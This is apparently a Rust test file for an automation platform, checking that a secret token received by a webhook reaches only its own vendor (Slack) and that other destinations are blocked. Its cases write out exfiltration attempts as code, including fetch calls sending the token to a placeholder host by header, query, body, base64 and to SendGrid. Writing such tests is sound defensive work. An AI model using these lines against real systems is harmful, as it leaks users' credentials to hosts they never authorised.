//! A received value goes to the hosts of whom it feeds, and nowhere else.

use super::{bot_token, clean, facing, failed, message};
use keyward_testkit::echo::Reply;
use serde_json::{Value, json};

const HERE: &str = "credential_not_allowed_here";

#[test]
fn a_received_value_goes_where_its_app_is_and_nowhere_else() {
    let (scene, vendors) = facing("external-bound");
    let token = scene.canary("token");
    vendors.on("POST", super::SLACK, "/api/auth.test", &[Reply::json(&json!({ "ok": true }))]);
    let code = |source: &str| scene.code("first", source);
    let http = |request: Value| json!({ "id": "first", "kind": "http", "request": request });
    let url = scene.echo.url("/x");
    let cases: Vec<(&str, Value)> = vec![
        (
            "a header, by code",
            code(
                "await fetch('HOST/', { headers: { authorization: `Bearer ${trigger.body.token}` } })",
            ),
        ),
        ("the query, by code", code("await fetch('HOST/?t=' + trigger.body.token)")),
        (
            "a body, by code",
            code("await fetch('HOST/', { method: 'POST', body: JSON.stringify(trigger.body) })"),
        ),
        ("base64, by code", code("await fetch('HOST/?t=' + btoa(trigger.body.token))")),
        (
            "another vendor, by code",
            code(
                "await fetch('https://api.sendgrid.com/v3/mail/send', { method: 'POST', headers: { 'x-a': trigger.body.token } })",
            ),
        ),
        ("a header", http(json!({ "url": url, "headers": { "x-a": "{{ trigger.body.token }}" } }))),
        (
            "a body",
            http(json!({ "url": url, "method": "POST", "json": { "all": "{{ trigger.body }}" } })),
        ),
        ("a query", http(json!({ "url": url, "query": { "a": "{{ trigger.body.token }}" } }))),
        (
            "another app's input",
            json!({
                "id": "first", "kind": "app", "app": "sendgrid", "action": "send_email",
                "credential": super::external("api_key", "api_key", "trigger.body.key"),
                "inputs": { "from": "ada@example.com", "to": "grace@example.com",
                            "subject": "Hi", "text": "{{ trigger.body.token }}" },
            }),
        ),
    ];
    let alone = json!({ "token": token });
    let body = json!({ "token": token, "key": scene.canary("key") });
    for (case, first) in cases {
        let (_, hook) = scene.hooked(&json!([first, message(&bot_token("trigger.body.token"))]));
        // A key that feeds nobody would be data.
        let body = if case == "another app's input" { &body } else { &alone };
        let run = scene.server.run_of(&scene.server.hook(&hook, body));
        let words = if case.starts_with("base64") { "encoding" } else { "trigger.body.token" };
        failed(&run, (0, HERE, words), case);
        assert!(vendors.take().is_empty(), "{case}: nothing leaves");
        assert!(scene.echo.received().is_empty(), "{case}: nothing leaves");
    }
    let allowed = code(
        "const headers = { authorization: `Bearer ${trigger.body.token}` };\n\
         const r = await fetch('https://slack.com/api/auth.test', { method: 'POST', headers });\n\
         return await r.json();",
    );
    let (_, hook) = scene.hooked(&json!([allowed, message(&bot_token("trigger.body.token"))]));
    let run = scene.server.run_of(&scene.server.hook(&hook, &alone));
    assert_eq!(run["status"], "succeeded", "{run}");
    let received = vendors.take();
    assert_eq!(received.len(), 2);
    for request in received {
        assert_eq!(request.header("authorization"), Some(&*format!("Bearer {token}")));
    }
    clean(&scene.server, "in the end");
}
